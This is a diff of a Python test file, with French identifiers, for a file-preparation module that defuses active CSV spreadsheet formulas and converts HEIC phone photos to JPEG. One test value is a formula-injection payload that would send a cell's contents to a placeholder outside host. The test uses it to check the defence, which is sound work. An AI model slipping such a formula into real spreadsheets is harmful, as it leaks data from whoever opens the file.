@@ -7,7 +7,7 @@ import pillow_heif
 import pytest
 from PIL import Image
 
-from situations.fichiers.formats import images, pixels
+from situations.fichiers.formats import images, pixels, textes
 from situations.fichiers.formats.textes import FORMULE
 from situations.fichiers.noms import nom_libre, nom_propre, nom_sur_disque
 from situations.fichiers.preparation import preparer
@@ -128,12 +128,12 @@ def test_a_text_is_kept_byte_for_byte_under_the_extension_of_a_text(prepare):
         b'=WEBSERVICE("https://ailleurs.example.org/"&A1)',
     ],
 )
-def test_a_cell_that_acts_becomes_a_text_and_that_is_said(prepare, formule):
-    preparee = prepare("tableau.csv", b"Montant;-12,50\n" + formule + b";2\n")
-    assert preparee.notes == (FORMULE,)
+def test_a_cell_that_acts_becomes_a_text_and_that_is_said(refaire, formule):
+    _, sortie, _ = ou = refaire.chemins(b"Montant;-12,50\n" + formule + b";2\n")
+    assert textes.refaire(*ou, "csv").notes == (FORMULE,)
     ici = len(formule) - len(formule.lstrip(b'" '))
     attendu = formule[:ici] + b"'" + formule[ici:]
-    assert preparee.chemin.read_bytes() == b"Montant;-12,50\n" + attendu + b";2\n"
+    assert sortie.read_bytes() == b"Montant;-12,50\n" + attendu + b";2\n"
 
 
 def test_a_cell_that_only_computes_is_left_as_it_is(prepare):
@@ -211,11 +211,14 @@ def test_every_kind_of_picture_is_drawn_again(refaire, octets, attendu):
     assert (kept.format, kept.mode) == attendu
 
 
-@pytest.mark.parametrize("marque", [b"heic", b"heix", b"hevc", b"mif1", b"MiHE", b"MiHB"])
-def test_the_photo_of_a_phone_becomes_a_jpeg_that_everybody_opens(prepare, marque):
+def test_the_photo_of_a_phone_becomes_a_jpeg_that_everybody_opens(prepare, refaire, tmp_path):
     pillow_heif.register_heif_opener()
     octets = fichiers.image("HEIF", (64, 64))
-    photo = prepare("IMG_0001.HEIC", octets[:8] + marque + octets[12:])
+    for marque in (b"heic", b"heix", b"hevc", b"mif1", b"MiHB"):
+        (tmp_path / "f").write_bytes(octets[:8] + marque + octets[12:])
+        assert reconnaitre(tmp_path / "f", "IMG_0001.HEIC") == "images", marque
+        assert Image.open(refaire(images, (tmp_path / "f").read_bytes())).format == "JPEG", marque
+    photo = prepare("IMG_0001.HEIC", octets[:8] + b"MiHE" + octets[12:])
     assert (photo.nom, Image.open(photo.chemin).format) == ("IMG_0001.jpg", "JPEG")
 
 
